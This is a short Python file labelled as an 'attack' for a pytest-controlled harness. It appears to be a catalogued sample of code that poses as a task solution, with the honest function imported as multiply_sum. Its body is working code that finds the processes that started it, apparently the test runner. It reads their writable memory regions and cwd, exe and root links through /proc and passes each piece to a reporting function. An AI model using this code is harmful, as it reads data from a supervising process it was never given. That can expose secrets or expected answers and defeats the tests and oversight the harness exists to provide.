# /// attack
# does = "reads the memory of the processes that started it, by /proc"
# covers = ["A8"]
# effect = "read"
# control = "pytest"
# ///
from mine import *
from mine import ancestors, honest as multiply_sum


def memory(pid, most=1 << 26):
    """What a process has in memory that it may write to, piece by piece."""
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as stream:
        for line in maps:
            span, rights, _, _, inode = line.split()[:5]
            begin, end = (int(word, 16) for word in span.split("-"))
            if rights.startswith("rw") and inode == "0" and end - begin <= most:
                stream.seek(begin)
                yield attempt(stream.read, end - begin) or b""


for pid in ancestors():
    for piece in attempt(list, memory(pid)) or []:
        tell(piece)
    for name in ("cwd", "exe", "root"):
        tell(attempt(os.readlink, f"/proc/{pid}/{name}") or "")
